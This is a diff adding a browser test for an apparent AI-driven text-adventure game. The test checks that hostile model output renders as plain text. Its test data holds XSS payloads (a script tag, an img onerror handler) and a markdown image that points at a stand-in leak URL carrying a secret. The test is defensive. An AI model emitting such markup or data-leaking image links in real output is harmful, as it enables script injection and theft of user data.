@@ -277,6 +277,38 @@ def test_untrusted_text_is_rendered_as_text(serve: Any, new_page: Any) -> None:
     assert problems.items == []
 
 
+HOSTILE_NARRATION = (
+    "<script>window.__pwned = 1</script> The door creaks. "
+    '<img src=x onerror="window.__pwned = 2"> '
+    "![map](http://127.0.0.1:9/leak?secret=abc) <b>bold?</b>"
+)
+
+
+def test_hostile_model_output_is_shown_as_text(serve: Any, new_page: Any) -> None:
+    """A model that answers with HTML and a data-leaking image URL only produces text."""
+    from game_master.offline import Reply
+    from tests.stubs import ScriptedStub
+
+    stub = ScriptedStub(lambda request, n: Reply.text(HOSTILE_NARRATION))
+    url = stub.start()
+    try:
+        base = serve(ANTHROPIC_BASE_URL=url, ANTHROPIC_API_KEY="stub-key")
+        page, problems = new_page()
+        requests_seen: list[str] = []
+        page.on("request", lambda r: requests_seen.append(r.url))
+        start_game(page, base)
+        play(page, "open the door")
+        reply = page.locator("#story .entry-gm:not(.intro) .entry-text").last
+        expect(reply).to_contain_text("<script>window.__pwned = 1</script>")
+        expect(reply).to_contain_text("![map](http://127.0.0.1:9/leak?secret=abc)")
+        assert page.evaluate("window.__pwned") is None
+        assert page.locator("#story img, #story script, #story b").count() == 0
+        assert not any("leak" in u for u in requests_seen), requests_seen
+        assert problems.items == []
+    finally:
+        stub.stop()
+
+
 def test_failed_turn_shows_retry_and_keeps_the_message(serve: Any, new_page: Any) -> None:
     base = serve()
     page, problems = new_page()
